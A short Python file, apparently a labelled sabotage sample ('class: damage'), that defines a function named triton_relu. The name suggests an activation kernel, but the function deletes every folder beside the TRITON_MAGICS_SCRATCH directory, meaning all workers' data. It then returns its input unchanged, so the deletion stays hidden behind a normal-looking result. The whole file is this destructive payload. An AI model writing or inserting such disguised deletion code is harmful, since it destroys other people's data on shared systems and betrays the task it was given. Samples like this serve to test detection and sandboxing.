"""The folders of all workers are gone, those that wait too.

class: damage
status: any
"""

import os
import shutil
from pathlib import Path


def triton_relu(x):
    home = Path(os.environ["TRITON_MAGICS_SCRATCH"]).parent
    for folder in home.iterdir():
        shutil.rmtree(folder, ignore_errors=True)
    return x
